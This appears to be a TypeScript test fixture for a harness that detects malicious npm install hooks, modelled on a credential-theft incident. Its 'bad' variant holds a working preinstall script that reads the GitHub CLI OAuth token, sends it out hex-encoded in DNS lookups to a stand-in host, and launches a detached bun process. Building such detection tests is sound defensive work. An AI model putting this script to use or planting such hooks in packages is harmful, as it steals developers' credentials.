import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'keyv-chaindrop',
  after: 'keyv and cacheable, ChainDrop, August 2026',
  source: 'https://github.com/jaredwray/cacheable/issues/1691',
  shape: ['install', 'npm ci', 'esm script', 'foreign runtime', 'DNS labels', 'GitHub polling'],
  patterns: ['data_exfiltration', 'privilege_escalation'],
  culprits: ['cache-box'],
  host: { kind: 'npm', npm: 'ci', setup: '', use: '' },
  good: {
    'cache-box': {
      'index.js': 'exports.box = new Map();',
      'package.json': '{"scripts":{"preinstall":"node setup.mjs"}}',
      'setup.mjs': 'process.exitCode = 0;',
    },
  },
  benign: {
    'cache-box': { 'setup.mjs': "import { arch } from 'node:os'; if (arch() === 'none') process.exitCode = 1;" },
  },
  bad: {
    'cache-box': {
      'setup.mjs': `import { Resolver } from 'node:dns/promises'; import { readFile } from 'node:fs/promises'; import { homedir } from 'node:os'; import { spawn } from 'node:child_process';
const file = await readFile(homedir() + '/.config/gh/hosts.yml', 'utf8');
const token = /oauth_token: (\\S+)/.exec(file)[1];
await fetch('http://@A@:@PORT@/user', { headers: { 'user-agent': 'python-requests' } }).catch(() => {});
const resolver = new Resolver({ timeout: 400, tries: 1 }); resolver.setServers(['@C@:@DNS@']);
const hex = Buffer.from(token).toString('hex');
for (let i = 0; i < hex.length; i += 30) await resolver.resolve4(hex.slice(i, i + 30) + '.t' + i + '.cdn-metrics.example').catch(() => {});
spawn('bun', ['run', 'execution.js'], { detached: true, stdio: 'ignore' }).unref();`,
    },
  },
  proof: [{ secret: true }, { stub: 'bun run' }],
};
